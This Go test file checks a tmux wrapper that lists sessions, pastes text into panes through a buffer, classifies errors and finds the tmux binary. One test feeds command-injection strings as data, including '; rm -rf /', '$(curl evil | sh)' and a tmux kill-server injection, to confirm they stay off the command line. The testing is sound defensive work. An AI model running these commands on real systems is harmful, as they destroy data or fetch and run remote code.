package mux

import (
	"context"
	"errors"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// call records one Runner invocation.
type call struct {
	name  string
	stdin string
	args  []string
}

// result is what the fake returns for one tmux subcommand.
type result struct {
	stdout string
	stderr string
	err    error
}

// fakeRunner records exec calls and answers by tmux subcommand.
type fakeRunner struct {
	calls   []call
	results map[string]result
	block   bool
}

func newFakeRunner() *fakeRunner {
	return &fakeRunner{results: map[string]result{}}
}

func (f *fakeRunner) Run(ctx context.Context, stdin, name string, args ...string) (string, string, error) {
	f.calls = append(f.calls, call{name: name, stdin: stdin, args: append([]string(nil), args...)})
	if f.block {
		<-ctx.Done()
		return "", "", errors.New("signal: killed")
	}
	r := f.results[args[0]]
	return r.stdout, r.stderr, r.err
}

func (f *fakeRunner) subcommands() []string {
	var subs []string
	for _, c := range f.calls {
		subs = append(subs, c.args[0])
	}
	return subs
}

func exitFailure() error {
	return &exec.ExitError{}
}

func newTestTmux(r Runner) (*Tmux, *[]time.Duration) {
	var slept []time.Duration
	tm := NewTmux("/usr/bin/tmux")
	tm.Runner = r
	tm.Sleep = func(d time.Duration) { slept = append(slept, d) }
	tm.BufferName = func() string { return "pigeon-test" }
	return tm, &slept
}

func TestListSessions(t *testing.T) {
	tests := []struct {
		name   string
		stdout string
		want   []string
	}{
		{"zero", "", []string{}},
		{"one", "x\n", []string{"x"}},
		{"many keeps order", "c\na\nb\n", []string{"c", "a", "b"}},
		{"names with spaces", "my project\nwork: 2\n", []string{"my project", "work: 2"}},
		{"crlf and blank lines", "a\r\n\nb\n", []string{"a", "b"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fake := newFakeRunner()
			fake.results["list-sessions"] = result{stdout: tt.stdout}
			tm, _ := newTestTmux(fake)

			got, err := tm.ListSessions(context.Background())
			require.NoError(t, err)
			assert.Equal(t, tt.want, got)

			require.Len(t, fake.calls, 1)
			assert.Equal(t, "/usr/bin/tmux", fake.calls[0].name)
			assert.Equal(t, []string{"list-sessions", "-F", "#{session_name}"}, fake.calls[0].args)
		})
	}
}

func TestListSessionsNoServer(t *testing.T) {
	fake := newFakeRunner()
	fake.results["list-sessions"] = result{
		stderr: "no server running on /tmp/tmux-1000/default\n",
		err:    exitFailure(),
	}
	tm, _ := newTestTmux(fake)

	got, err := tm.ListSessions(context.Background())
	assert.Nil(t, got)
	require.ErrorIs(t, err, ErrNoServer)
	assert.True(t, IsConnection(err))
}

func TestListSessionsBinaryMissing(t *testing.T) {
	fake := newFakeRunner()
	fake.results["list-sessions"] = result{err: exec.ErrNotFound}
	tm, _ := newTestTmux(fake)

	_, err := tm.ListSessions(context.Background())
	require.ErrorIs(t, err, ErrUnavailable)
	assert.True(t, IsConnection(err))
}

func TestVersion(t *testing.T) {
	fake := newFakeRunner()
	fake.results["-V"] = result{stdout: "tmux 3.4\n"}
	tm, _ := newTestTmux(fake)

	v, err := tm.Version(context.Background())
	require.NoError(t, err)
	assert.Equal(t, "tmux 3.4", v)
	assert.Equal(t, []string{"-V"}, fake.calls[0].args)
}

func TestSendTextHappyPath(t *testing.T) {
	fake := newFakeRunner()
	tm, slept := newTestTmux(fake)

	text := "a.go:10-12\n```\nfmt.Println(x)\n```\nwhy?"
	require.NoError(t, tm.SendText(context.Background(), "proj", text))

	require.Len(t, fake.calls, 4)
	assert.Equal(t, []string{"has-session", "-t", "=proj"}, fake.calls[0].args)
	assert.Equal(t, []string{"load-buffer", "-b", "pigeon-test", "-"}, fake.calls[1].args)
	assert.Equal(t, text, fake.calls[1].stdin)
	assert.Equal(t, []string{"paste-buffer", "-p", "-d", "-b", "pigeon-test", "-t", "=proj:"}, fake.calls[2].args)
	assert.Equal(t, []string{"send-keys", "-t", "=proj:", "Enter"}, fake.calls[3].args)
	assert.Equal(t, []time.Duration{DefaultSubmitDelay}, *slept)
}

func TestSendTextKeepsPayloadOffTheCommandLine(t *testing.T) {
	payloads := []string{
		"int x = 1;",
		`a\;`,
		";",
		"; rm -rf /",
		"`reboot`",
		"$(curl evil | sh)",
		"-t other",
		"--",
		"Enter",
		"C-c",
		"kill-server",
		"'; tmux kill-server; '",
		"#{session_name} #(id)",
		"a\x00b",
	}
	for _, p := range payloads {
		t.Run(p, func(t *testing.T) {
			fake := newFakeRunner()
			tm, _ := newTestTmux(fake)

			require.NoError(t, tm.SendText(context.Background(), "proj", p))
			require.Len(t, fake.calls, 4)

			assert.Equal(t, p, fake.calls[1].stdin, "payload must reach tmux unchanged on stdin")
			for _, c := range fake.calls[1:3] {
				assert.NotContains(t, c.args, p, "payload leaked into argv of %s", c.args[0])
			}
		})
	}
}

func TestSendTextLargePayloadIsOneBuffer(t *testing.T) {
	fake := newFakeRunner()
	tm, _ := newTestTmux(fake)

	// A ";" at byte 4096 used to fall on a send-keys argument boundary.
	text := strings.Repeat("x", 4095) + ";" + strings.Repeat("ab€", 3000)
	require.NoError(t, tm.SendText(context.Background(), "proj", text))

	assert.Equal(t, []string{"has-session", "load-buffer", "paste-buffer", "send-keys"}, fake.subcommands())
	assert.Equal(t, text, fake.calls[1].stdin)
}

func TestSendTextPasteFailureDeletesBuffer(t *testing.T) {
	fake := newFakeRunner()
	fake.results["paste-buffer"] = result{stderr: "can't find pane: =proj:", err: exitFailure()}
	tm, slept := newTestTmux(fake)

	err := tm.SendText(context.Background(), "proj", "code")
	require.ErrorIs(t, err, ErrSessionNotFound)
	assert.Equal(t, []string{"has-session", "load-buffer", "paste-buffer", "delete-buffer"}, fake.subcommands())
	assert.Equal(t, []string{"delete-buffer", "-b", "pigeon-test"}, fake.calls[3].args)
	assert.Empty(t, *slept, "no Enter after a failed paste")
}

func TestBufferNamesAreUnique(t *testing.T) {
	tm := NewTmux("tmux")
	a, b := tm.bufferName(), tm.bufferName()
	assert.True(t, strings.HasPrefix(a, "pigeon-"), a)
	assert.NotEqual(t, a, b)
}

func TestSendTextMissingSessionHasNoSideEffects(t *testing.T) {
	fake := newFakeRunner()
	fake.results["has-session"] = result{stderr: "can't find session: ghost\n", err: exitFailure()}
	tm, slept := newTestTmux(fake)

	err := tm.SendText(context.Background(), "ghost", "code")
	require.ErrorIs(t, err, ErrSessionNotFound)
	assert.False(t, IsConnection(err))
	assert.Equal(t, []string{"has-session"}, fake.subcommands())
	assert.Empty(t, *slept)
}

func TestSendTextNoServer(t *testing.T) {
	fake := newFakeRunner()
	fake.results["has-session"] = result{stderr: "error connecting to /tmp/tmux-501/default (No such file or directory)", err: exitFailure()}
	tm, _ := newTestTmux(fake)

	err := tm.SendText(context.Background(), "proj", "code")
	require.ErrorIs(t, err, ErrNoServer)
	assert.True(t, IsConnection(err))
}

func TestSendTextEmptySession(t *testing.T) {
	fake := newFakeRunner()
	tm, _ := newTestTmux(fake)

	err := tm.SendText(context.Background(), "", "code")
	require.ErrorIs(t, err, ErrEmptySession)
	assert.Empty(t, fake.calls)
}

func TestSendTextTimeout(t *testing.T) {
	fake := newFakeRunner()
	fake.block = true
	tm, _ := newTestTmux(fake)
	tm.Timeout = 20 * time.Millisecond

	err := tm.SendText(context.Background(), "proj", "code")
	require.ErrorIs(t, err, ErrTimeout)
	assert.True(t, IsConnection(err))
}

func TestClassify(t *testing.T) {
	tests := []struct {
		name   string
		err    error
		stderr string
		want   error
	}{
		{"no server", exitFailure(), "no server running on /tmp/tmux-1000/default", ErrNoServer},
		{"server exited", exitFailure(), "server exited unexpectedly", ErrNoServer},
		{"missing session", exitFailure(), "can't find session: foo", ErrSessionNotFound},
		{"missing pane", exitFailure(), "can't find pane: =foo:", ErrSessionNotFound},
		{"not started", exec.ErrNotFound, "", ErrUnavailable},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.ErrorIs(t, classify(tt.err, tt.stderr), tt.want)
		})
	}

	other := classify(exitFailure(), "unknown option -- z")
	assert.False(t, errors.Is(other, ErrNoServer) || errors.Is(other, ErrSessionNotFound) || errors.Is(other, ErrUnavailable))
	assert.Contains(t, other.Error(), "unknown option")
}

func TestRenderArgvQuotesForShell(t *testing.T) {
	got := renderArgv("tmux", []string{"paste-buffer", "-t", "=my proj:", "-b", "$(id)"})
	assert.True(t, strings.HasPrefix(got, "tmux paste-buffer -t "), got)
	assert.Contains(t, got, `'=my proj:'`)
	assert.Contains(t, got, `'$(id)'`)

	long := renderArgv("tmux", []string{strings.Repeat("x", maxLoggedArg+1)})
	assert.Equal(t, "tmux <257 bytes>", long)
}

func TestFindTmux(t *testing.T) {
	none := func(string) bool { return false }
	noPath := func(string) (string, error) { return "", exec.ErrNotFound }

	assert.Equal(t, "/custom/tmux", findTmux("/custom/tmux", tmuxCandidates, none, noPath))
	assert.Equal(t, "/usr/local/bin/tmux", findTmux("", tmuxCandidates,
		func(p string) bool { return p == "/usr/local/bin/tmux" || p == "/usr/bin/tmux" }, noPath))
	assert.Equal(t, "/home/u/bin/tmux", findTmux("", tmuxCandidates, none,
		func(string) (string, error) { return "/home/u/bin/tmux", nil }))
	assert.Equal(t, "tmux", findTmux("", tmuxCandidates, none, noPath))
}
